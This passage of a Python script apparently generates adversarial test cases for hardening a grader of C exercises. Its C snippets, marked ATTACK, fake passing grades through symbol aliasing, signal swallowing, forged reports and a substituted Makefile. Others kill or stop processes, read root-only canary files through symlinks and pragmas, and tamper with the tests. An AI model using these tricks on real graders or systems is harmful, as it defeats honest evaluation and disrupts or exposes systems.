int atk_main(int argc, char **argv)
{
    (void)argc;
    (void)argv;
    _exit(0);
}
/* ATTACK: a second name for the same code, one the harness owns. */
int main(int argc, char **argv) __attribute__((alias("atk_main")));
""")
policy_case("c14_symver", ".symver gives a function of ours the name criterion_send_assert@@KATA_1",
            EARLY_EXIT + r"""
void atk_no_assert(void *stats)
{
    (void)stats;
}
/* ATTACK: the assembler gives our function the harness's name, with a version. */
__asm__(".symver atk_no_assert, criterion_send_assert@@KATA_1");
""")
policy_case("c14_preinit_array", "a function pointer in .preinit_array (run before any constructor)",
            EARLY_EXIT + r"""
static void (*const atk_preinit)(void) __attribute__((used, section(".preinit_array"))) = atk_early;
""")
policy_case("c14_ctors_section", "a function pointer in .ctors.00100 (the old constructor table, still run by the linker script)",
            EARLY_EXIT + r"""
static void (*const atk_ctor)(void) __attribute__((used, section(".ctors.00100"))) = atk_early;
""")
policy_case("c14_init_array_in_function_asm", "an .init_array entry made by .section inside a function's asm (not top level)",
            EARLY_EXIT + r"""
__attribute__((used)) static void atk_hide_init(void)
{
    __asm__(".section .init_array,\"aw\"\n.balign 8\n.quad atk_early\n.text");
}
""")
policy_case("c14_sigaction_swallow", "sigaction on SIGSEGV and SIGABRT with a handler that _exit(0)s: a crash would read as a clean end",
            EARLY_EXIT + r"""
#include <signal.h>
#include <string.h>
static void atk_swallow(int sig)
{
    (void)sig;
    _exit(0);
}
__attribute__((used)) static void atk_handlers(void)
{
    struct sigaction sa;
    memset(&sa, 0, sizeof sa);
    sa.sa_handler = atk_swallow;
    sigaction(SIGSEGV, &sa, NULL);
    sigaction(SIGABRT, &sa, NULL);
}
""")
case("c14_digraph_include", 3, "%:include (the digraph spelling of #include) of the reference solution",
     replace=include_solution("%:include "))
case("c14_continued_include", 3, "#\\<newline>include: the directive split by a line continuation",
     replace=include_solution("#\\\ninclude "))
case("c14_include_next", 3, "#include_next of the reference solution",
     replace=include_solution("#include_next "))
case("c14_pragma_dependency", 3, "#pragma GCC dependency and _Pragma on a root-only file and the solution: the compiler reads them",
     canary="yes", only="01-isolation", probe="yes", replace=lambda ex, f, stub: (
         "/* ATTACK: the compiler opens the named files to compare their dates. */\n"
         "#pragma GCC dependency \"/srv/kata-canary/secret\" KATA-PROBE\n"
         "_Pragma(\"GCC dependency \\\"%ssolutions/%s/%s\\\" KATA-PROBE\")\n%s"
         % (UP_FROM_STAGE, ex, f, stub)))
case("c14_sigaction_swallow", "policy", "sigaction on SIGSEGV and SIGABRT with a handler that _exit(0)s: a crash reads as a clean end",
     all=r"""
static void atk_swallow(int sig)
{
    (void)sig;
    _exit(0);
}
static ATK_UNUSED void atk_handlers(void)
{
    struct sigaction sa;
    memset(&sa, 0, sizeof sa);
    sa.sa_handler = atk_swallow;
    sigaction(SIGSEGV, &sa, NULL);
    sigaction(SIGABRT, &sa, NULL);
}
""", hook="atk_handlers();")

# ---- the run's own output and odd submissions --------------------------------------
case("c14_fork_fake_report", "output", "a forked child writes a fake all-passed Criterion report and summary to stdout and stderr",
     only="01-isolation", hook="atk_fake();", bare=r"""
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>
static int atk_done;
/* ATTACK: what a report looks like, from a process the tests never started. */
static void atk_fake(void)
{
    static const char xml[] = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
        "<testsuites name=\"Criterion Tests\" tests=\"99\" failures=\"0\" errors=\"0\" disabled=\"0\">\n"
        "</testsuites>\n[====] Synthesis: Tested: 99 | Passing: 99 | Failing: 0 | Crashing: 0\n"
        "total 80.00 / 80\n";
    if (atk_done++)
        return;
    pid_t p = fork();
    if (p == 0) {
        if (write(1, xml, strlen(xml)) < 0 || write(2, xml, strlen(xml)) < 0)
            _exit(1);
        _exit(0);
    }
    if (p > 0)
        waitpid(p, NULL, 0);
}
""")
case("c14_non_utf8_output", "output", "the stub writes bytes that are not UTF-8, NULs and terminal escapes to stdout and stderr",
     only="01-isolation", hook="atk_bytes();", bare=r"""
#include <unistd.h>
/* ATTACK: output the grader must read and show without trusting it. */
static void atk_bytes(void)
{
    static const char junk[] = "\xff\xfe\x80\xc3\x28 \x00 \x1b]0;pwned\x07\x1b[2J\x1b[1;1H\r"
                               "PASS total 80.00 / 80 \xed\xa0\x80\n";
    if (write(1, junk, sizeof junk) < 0 || write(2, junk, sizeof junk) < 0)
        return;
}
""")
case("c14_alloca_bomb", "output", "__builtin_alloca of 64 GB and a 1 GB static array: the stack and the address space",
     only="01-isolation", hook="atk_bomb();", bare=r"""
#include <string.h>
/* ATTACK: no library call, only memory. */
static char atk_huge[1UL << 30];
static void atk_bomb(void)
{
    volatile char *p = __builtin_alloca(1UL << 36);
    p[0] = atk_huge[12345];
    memset((char *)p, 1, 1 << 20);
}
""")
case("c14_symlink_header", 6, "the submission brings attack.h, a symlink to a root-only file, and includes it by name",
     canary="yes", only="01-isolation",
     replace=lambda ex, f, stub: "#include \"attack.h\"\n#include \"solution.h\"\n" + stub,
     extra={"01-isolation/attack.h": ("link", "/srv/kata-canary/secret"),
            "01-isolation/solution.h": ("link", UP_FROM_CASE_EX + "solutions/01-isolation/isolation.c")})
case("c14_odd_names", "submission", "files named -o, with a newline and not UTF-8 beside the stubs; join.c is a folder",
     extra={"01-isolation/-o": ("file", "int x;\n"), "01-isolation/a\nb.c": ("file", "int y;\n"),
            b"01-isolation/\xff\xfe.c".decode("utf-8", "surrogateescape"): ("file", "int z;\n"),
            "02-join/join.c": ("dir", None)})
case("c14_many_submission_files", "submission", "30000 files beside the stubs in the submission (made by the runner)",
     setup="many-files:01-isolation:30000")

jit_case("c14_jit_sigstop", "SIGSTOP to its parent, its own process group and every process it may signal", r"""
static void atk_attack(void)
{
    if (atk_once++)
        return;
    long parent = atk_sc(110, 0, 0, 0, 0); /* getppid */
    atk_sc(62, parent, 19, 0, 0);          /* kill(parent, SIGSTOP) */
    atk_sc(62, 0, 19, 0, 0);               /* kill(0, SIGSTOP): the process group */
    atk_sc(62, -1, 19, 0, 0);              /* kill(-1, SIGSTOP) */
}
""")
jit_case("c14_jit_unshare_leftover", "unshare a user and PID namespace, leave a child sleeping in it (its pid 1), end at once", r"""
static void atk_attack(void)
{
    if (atk_once++)
        return;
    atk_sc(272, 0x10000000 | 0x20000000, 0, 0, 0); /* unshare(CLONE_NEWUSER | CLONE_NEWPID) */
    if (fork() == 0)
        for (;;)
            atk_sc(34, 0, 0, 0, 0); /* pause */
    atk_sc(231, 0, 0, 0, 0);
}
""")
jit_case("c14_jit_setpgid_escape", "a child in a process group of its own (setpgid) that ignores SIGTERM and SIGHUP and sleeps", r"""
static void atk_attack(void)
{
    if (atk_once++)
        return;
    if (fork() == 0) {
        long ign[4] = {1, 0, 0, 0};      /* SIG_IGN, no flags */
        atk_sc(109, 0, 0, 0, 0);         /* setpgid(0, 0) */
        atk_sc(13, 15, (long)ign, 0, 8); /* rt_sigaction(SIGTERM) */
        atk_sc(13, 1, (long)ign, 0, 8);  /* rt_sigaction(SIGHUP) */
        for (;;)
            atk_sc(34, 0, 0, 0, 0);
    }
}
""")

# ---- 10: grade-all ---------------------------------------------------------------
case("c10_fifo_named_c", 10, "grade-all: the student's join.c is a FIFO (made by the runner)",
     mode="grade-all", setup="fifo:02-join/join.c")
case("c10_deep_tree", 10, "grade-all: a 3000-deep folder tree in the student's folder (made by the runner)",
     mode="grade-all", setup="deep:3000")
case("c10_folder_named_csv", 10, "grade-all: a student folder named grades.csv",
     mode="grade-all", student="grades.csv")
case("c10_student_symlink_solutions", 10, "grade-all: the student's folder is a symlink to solutions/",
     mode="grade-all", setup="student-link:solutions")
case("c10_lock_symlink", 10, "grade-all: /run/lock/kata-grade-uid-*.lock planted as symlinks (owned by nobody) to a root file",
     mode="grade-all", setup="lock-symlinks", victim="yes")
case("c10_lock_fifo", 10, "grade: /run/lock/kata-grade-uid-*.lock planted as FIFOs (owned by nobody)",
     setup="lock-fifos")
case("c10_student_dotdot_name", 10, "grade-all: a student folder whose name starts with a dash and holds a newline",
     mode="grade-all", student="-rf\nx")

# ---- 11: a non-root grader --------------------------------------------------------
case("c11_kill_all", 11, "kill(-1, SIGKILL) from a constructor: as the grader's own user it ends every grader",
     only="01-isolation", all=r'''
__attribute__((constructor)) static void atk_kill_everyone(void)
{
    if (getenv("ATK_KILLED"))
        return;
    /* ATTACK: every process this user may signal. */
    kill(-1, SIGKILL);
}
''')
case("c11_tamper_tree", 11, "at run time, rewrite the repository's tests and tools (writable when the grader is their owner)",
     only="01-isolation", all=r'''
__attribute__((constructor)) static void atk_tamper(void)
{
    /* ATTACK: the tests of the next exercises, and the grader itself. */
    static const char *const victims[] = {"tests/02-join/test_1_clock.c", "tools/report.py",
                                          "exercises/exercises.ini"};
    for (int i = 0; i < 3; i++) {
        int fd = open(victims[i], O_WRONLY | O_APPEND | O_CLOEXEC);
        if (fd >= 0) {
            if (write(fd, "\n", 1) < 0)
                perror("write");
            close(fd);
        }
    }
}
''')

# ---- 12: a workflow that runs the student's own Makefile ------------------------
case("c12_own_makefile", 12, "the release's workflow: the student's clone brings its own Makefile, whose grade target exits 0",
     mode="classroom", overlay={"Makefile": "# ATTACK: the workflow runs this file.\n"
                                "grade deps:\n\t@echo 'total 80.00 / 80'\n.PHONY: grade deps\n"})
case("c12_own_tools", 12, "the release's workflow: the student's clone brings its own tools/grade.py (full marks)",
     mode="classroom", overlay={"tools/grade.py": "# ATTACK: the workflow imports this module.\n"
                                "def dispatch(args):\n    print('total 80.00 / 80')\n    return 0\n"})


# ---- writing the trees -------------------------------------------------------------

def hooked(stub, hook):
    """The stub with `hook` at the start of every function body."""
    return re.sub(r"(\)\n)\{\n", lambda m: m.group(1) + "{\n    " + hook + "\n", stub)


def write_case(name, spec, files):
    d = os.path.join(OUT, name)
    shutil.rmtree(d, ignore_errors=True)
    os.makedirs(d)
    with open(KIT) as f:
        kit = f.read()
    for ex, names in files.items():
        os.makedirs(os.path.join(d, ex), exist_ok=True)
        if spec.get("dirlink"):
            os.rmdir(os.path.join(d, ex))
            os.symlink(spec["dirlink"](ex), os.path.join(d, ex))
            continue
        for f in names:
            with open(os.path.join(ROOT, "exercises", ex, f)) as fh:
                stub = fh.read()
            dest = os.path.join(d, ex, f)
            target = spec["link"](ex, f) if spec.get("link") else None
            if target:
                os.symlink(target, dest)
                continue
            text = stub
            attacked = spec.get("only") in (None, ex)
            if attacked and spec.get("replace"):
                text = spec["replace"](ex, f, stub)
            elif attacked and spec.get("bare"):  # no kit: the case's own code only
                text = "/* ==== the attack ==== */\n" + spec["bare"] + "\n" + hooked(text, spec["hook"])
            elif attacked and (spec.get("all") or spec.get("hook")):
                attack = "\n/* ==== the attack ==== */\n" + spec.get("all", "")
                if spec.get("hook"):  # the attack first: the stub's functions call it
                    text = kit + attack + "\n" + hooked(text, spec["hook"])
                else:
                    text = kit + "\n" + text + attack
            with open(dest, "w") as fh:
                fh.write(text)
    for rel, (kind, what) in spec.get("extra", {}).items():
        p = os.path.join(d, rel)
        if kind == "link":
            os.symlink(what, p)
        elif kind == "dir":
            if os.path.lexists(p):
                os.unlink(p)
            os.makedirs(os.path.join(p, "inside.c"))
        else:
            with open(p, "w") as fh:
                fh.write(what)
    for rel, text in spec.get("overlay", {}).items():
        p = os.path.join(d, "clone", rel)
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, "w") as fh:
            fh.write(text)
    ini = ["[case]", "class = %s" % spec["cls"], "what = %s" % spec["what"], "mode = %s" % spec["mode"],
           "points = 0"]
    for key in ("canary", "disk", "memory", "network", "setup", "victim", "probe", "refused"):
        if spec.get(key):
            ini.append("%s = %s" % (key, spec[key]))
    if spec.get("only") and spec["mode"] == "grade":
        ini.append("ex = %s" % spec["only"])  # the other exercises are plain stubs
    if spec.get("student"):
        ini.append("student = %s" % spec["student"].replace("\n", "\\n"))
    with open(os.path.join(d, "case.ini"), "w") as fh:
        fh.write("\n".join(ini) + "\n")


def main():
    files = FILES
    os.makedirs(OUT, exist_ok=True)
    for name in os.listdir(OUT):
        if name not in CASES and os.path.isdir(os.path.join(OUT, name)):
            shutil.rmtree(os.path.join(OUT, name))
    for name, spec in CASES.items():
        write_case(name, spec, files)
    print("%d cases in %s" % (len(CASES), os.path.relpath(OUT, ROOT)))


if __name__ == "__main__":
    main()
